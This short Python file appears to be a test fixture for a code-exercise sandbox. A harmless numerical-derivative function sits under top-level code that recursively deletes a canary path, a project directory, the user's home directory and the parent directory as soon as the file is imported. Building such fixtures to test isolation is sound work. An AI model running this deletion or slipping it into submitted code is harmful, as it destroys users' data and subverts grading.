"""Removes every file that it can reach."""

import os
import shutil

for place in ('@CANARY@', '@PROJECT@/exercises/.attacked', os.path.expanduser('~'), '..'):
    shutil.rmtree(place, ignore_errors=True)
os.remove('@CANARY@/file')


def numerical_diff(f, x):
    return (f(x + 1e-4) - f(x - 1e-4)) / 2e-4
